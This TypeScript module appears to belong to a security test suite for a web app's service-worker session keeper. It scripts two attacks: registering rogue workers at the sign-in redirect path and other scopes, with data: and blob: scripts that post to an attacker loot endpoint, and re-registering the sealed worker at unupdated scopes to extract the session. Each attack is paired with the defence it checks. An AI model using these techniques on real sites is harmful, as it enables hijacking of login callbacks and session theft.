import type { Attack } from '../attack.js';
import type { Stage } from '../outside/stage.js';
import { authorizationUrl, OWN_CHALLENGE, ownSignIn, RESPONSE_MODES } from '../sign-in-of-its-own.js';
import { weakWorker } from '../weak/weak-workers.js';
import { withoutWorkerGuard } from '../weak/weaken.js';

/** Registers a worker of its own at the redirect path itself: a longer scope goes before the keeper's. */
async function registerAtRedirectPath(): Promise<void> {
  const registering = navigator.serviceWorker.register('/attacker.js', { scope: '/session/callback' });
  const registration = await Promise.race([registering.catch(() => undefined), attacker.pause(2500)]);
  attacker.take('registered', [registration?.scope]);
  for (let round = 0; registration && !registration.active && round < 50; round += 1)
    await attacker.pause(50);
}

/** Registers whatever else it can. */
async function registerOthers(): Promise<void> {
  const own = 'fetch("/attacker/loot", { method: "POST", body: "[]" })';
  const register = async (script: string, scope: string, type: WorkerType) => {
    const registering = navigator.serviceWorker.register(script, { scope, type }).catch(() => undefined);
    // WebKit leaves some of them without an end.
    const registration = await Promise.race([registering, attacker.pause(2500)]);
    if (registration) attacker.take('registered', [script, scope, type]);
  };
  const scripts = [
    '/attacker.js',
    '/attacker.js?x',
    '/module.js',
    '/service-worker.js?x',
    '/service-worker.js#x',
    `data:text/javascript,${own}`,
    URL.createObjectURL(new Blob([own], { type: 'text/javascript' })),
  ];
  const types = ['classic', 'module'] as const;
  // Each at a scope of its own: those of one scope would wait for one another.
  const all = types.flatMap((type) => scripts.map((script) => [script, type] as const));
  await Promise.all([
    ...all.map(([script, type], index) => register(script, `/session/${index}/`, type)),
    register('/attacker.js', '/desk.html', 'module'),
    register('/service-worker.js', '/session/module/', 'module'),
  ]);
}

async function signInInPopups(stage: Stage): Promise<void> {
  for (const mode of RESPONSE_MODES) {
    const url = await authorizationUrl(ownSignIn(stage, mode), OWN_CHALLENGE);
    await stage.runInClick((target) => void attacker.native.open(target, '_blank'), url);
    await stage.quiet();
  }
}

export const otherWorker: Attack = {
  name: 'another worker',
  tries: 'registers workers at other paths, scopes and types, then signs in and reads what passes by them',
  threat: '5.1.3',
  defence: 'the server refuses every other worker of the origin',
  weakness: {
    without: 'that refusal',
    weaken: withoutWorkerGuard,
  },
  run: async (stage) => {
    await stage.run(registerAtRedirectPath, undefined);
    await signInInPopups(stage);
    await stage.run(registerOthers, undefined);
    await signInInPopups(stage);
  },
};

/** Registers the keeper itself once more, where no update of the app ever comes by, and asks it for the session. */
async function registerTheKeeperTwice(scope: string): Promise<string> {
  const registration = await navigator.serviceWorker
    .register('/service-worker.js', { scope })
    .catch(() => undefined);
  if (!registration) return 'refused';
  for (let round = 0; !registration.active && round < 100; round += 1) await attacker.pause(25);
  const id = 'attacker hello';
  const call = { id, type: 'APPLY', path: ['hello'], argumentList: [] };
  const answer = await new Promise<string>((resolve) => {
    navigator.serviceWorker.addEventListener('message', ({ data }) => {
      if (data?.call?.id === id) resolve(JSON.stringify(data.call.value ?? null));
    });
    registration.active?.postMessage({ channel: 'session-keeper', protocol: 1, call });
    setTimeout(() => resolve('silent'), 3000);
  });
  await registration.unregister();
  return answer;
}

export const pinnedWorker: Attack = {
  name: 'pinned worker',
  tries: 'registers the sealed worker at scopes of its own, which no update of the app reaches',
  threat: '5.1.2',
  defence: 'the seal names the scope that it is for; registered for another one, the worker has no key',
  weakness: { without: 'that check', deployment: { system: weakWorker('any-scope') } },
  run: async (stage) => {
    for (const scope of ['/pinned/', '/session/', '/desk.html', '/session/callback']) {
      const answer = await stage.run(registerTheKeeperTwice, scope);
      if (answer.includes('"active"')) stage.loot.gain(`a second worker with the session (${scope})`);
    }
  },
};
